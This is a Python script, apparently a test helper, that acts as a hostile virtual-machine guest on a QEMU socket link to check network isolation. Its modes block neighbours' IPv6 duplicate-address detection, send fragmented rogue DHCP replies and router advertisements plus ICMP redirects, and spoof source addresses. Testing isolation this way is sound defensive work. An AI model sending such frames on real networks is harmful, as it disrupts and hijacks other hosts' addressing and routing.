"""A guest that attacks its neighbours: frames of its own making on a link of QEMU's framing.

usage: hostile.py PATH MAC ADDRESS VICTIM-MAC VICTIM-ADDRESS ATTACK

ATTACK is "probe": answers every question for a free address by asking for the same one, and prints "asked" with each; or
"forge": sends DHCP replies in fragments, a router advertisement in fragments and redirects to the victim, then one honest
datagram with the text "that was all"; or "claim ADDRESS...": sends an echo request from each address. What it has sent
itself no other program counts, so it prints "attacking" when its first frame is out.
"""

import socket
import struct
import sys


def mac_bytes(mac):
    return bytes.fromhex(mac.replace(":", ""))


def checksum(data):
    data += b"\0" * (len(data) & 1)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Guest:
    def __init__(self, path, mac, address):
        self.link = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.link.connect(path)
        self.mac = mac_bytes(mac)
        self.address = socket.inet_aton(address)
        identifier = bytes([self.mac[0] ^ 2]) + self.mac[1:3] + b"\xff\xfe" + self.mac[3:]
        self.local = b"\xfe\x80" + bytes(6) + identifier

    def send(self, destination, kind, body):
        frame = destination + self.mac + struct.pack(">H", kind) + body
        self.link.sendall(struct.pack(">I", len(frame)) + frame)

    def frames(self):
        rest = b""
        while True:
            piece = self.link.recv(1 << 16)
            if not piece:
                raise SystemExit("the link is closed")
            rest += piece
            while len(rest) >= 4:
                count, = struct.unpack_from(">I", rest)
                if len(rest) < 4 + count:
                    break
                yield rest[4:4 + count]
                rest = rest[4 + count:]

    def announce(self):
        """An announcement of its own address, by which the network knows the guest."""
        self.send(b"\xff" * 6, 0x0806,
                  struct.pack(">HHBBH", 1, 0x0800, 6, 4, 1) + self.mac + self.address + bytes(6) + self.address)

    def ipv4(self, mac, destination, protocol, data, number=0, place=0):
        header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(data), number, place, 64, protocol, 0, self.address,
                             destination)
        header = header[:10] + struct.pack(">H", checksum(header)) + header[12:]
        self.send(mac, 0x0800, header + data)

    def ipv6(self, mac, source, destination, protocol, data, extensions=b""):
        header = struct.pack(">IHBB", 6 << 28, len(extensions) + len(data), protocol, 255) + source + destination
        self.send(mac, 0x86DD, header + extensions + data)

    def icmpv6(self, source, destination, message):
        pseudo = source + destination + struct.pack(">II", len(message), 58)
        return message[:2] + struct.pack(">H", checksum(pseudo + message)) + message[4:]


def probe(guest):
    for frame in guest.frames():
        kind, = struct.unpack_from(">H", frame, 12)
        if kind == 0x86DD and frame[20] == 58 and frame[22:38] == bytes(16) and frame[54] == 135:
            group = frame[38:54]
            message = struct.pack(">BBHI", 135, 0, 0, 0) + frame[62:78]
            guest.ipv6(b"\x33\x33" + group[12:], bytes(16), group, 58, guest.icmpv6(bytes(16), group, message))
            print("asked", socket.inet_ntop(socket.AF_INET6, frame[62:78]), flush=True)


def forge(guest, victim, address):
    reply = struct.pack(">HHHH", 67, 68, 8 + 248, 0) + struct.pack(">BBBBI", 2, 1, 6, 0, 7) + bytes(240)
    for number, (mac, destination) in enumerate([(victim, address), (b"\xff" * 6, b"\xff" * 4)]):
        guest.ipv4(mac, destination, 17, reply[:64], number + 1, 0x2000)
        guest.ipv4(mac, destination, 17, reply[64:], number + 1, 8)
    everyone = socket.inet_pton(socket.AF_INET6, "ff02::1")
    advertisement = guest.icmpv6(
        guest.local, everyone, struct.pack(">BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + bytes([1, 1]) + guest.mac)
    for place, part in ((1, advertisement[:16]), (16, advertisement[16:])):
        guest.ipv6(b"\x33\x33\0\0\0\1", guest.local, everyone, 44, part, struct.pack(">BBHI", 58, 0, place, 9))
    solicited = struct.pack(">HHHH", 547, 546, 8 + 16, 0) + bytes(16)
    pseudo = guest.local + everyone + struct.pack(">II", len(solicited), 17)
    solicited = solicited[:6] + struct.pack(">H", checksum(pseudo + solicited)) + solicited[8:]
    guest.ipv6(b"\x33\x33\0\0\0\1", guest.local, everyone, 60, solicited, bytes([17, 0, 1, 4, 0, 0, 0, 0]))
    quoted = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28, 0, 0, 64, 17, 0, address, bytes([10, 9, 8, 7])) + bytes(8)
    redirect = struct.pack(">BBH", 5, 1, 0) + guest.address + quoted
    guest.ipv4(victim, address, 1, redirect[:2] + struct.pack(">H", checksum(redirect)) + redirect[4:])
    guest.ipv6(b"\x33\x33\0\0\0\1", guest.local, everyone, 58, guest.icmpv6(
        guest.local, everyone, struct.pack(">BBHI", 137, 0, 0, 0) + guest.local + guest.local))
    text = b"that was all"
    guest.ipv4(victim, address, 17, struct.pack(">HHHH", 9, 9, 8 + len(text), 0) + text)


def claim(guest, addresses):
    everyone = socket.inet_pton(socket.AF_INET6, "ff02::1")
    for text in addresses:
        source = socket.inet_pton(socket.AF_INET6, text)
        message = guest.icmpv6(source, everyone, struct.pack(">BBHHH", 128, 0, 0, 1, 1))
        guest.ipv6(b"\x33\x33\0\0\0\1", source, everyone, 58, message)


def main():
    path, mac, address, victim, target, attack = sys.argv[1:7]
    guest = Guest(path, mac, address)
    guest.announce()
    print("attacking", flush=True)
    if attack == "probe":
        probe(guest)
    if attack == "forge":
        forge(guest, mac_bytes(victim), socket.inet_aton(target))
    if attack == "claim":
        claim(guest, sys.argv[7:])
    print("done", flush=True)
    # The link stays, and nothing received on it is awaited.
    for _ in guest.frames():
        pass


main()
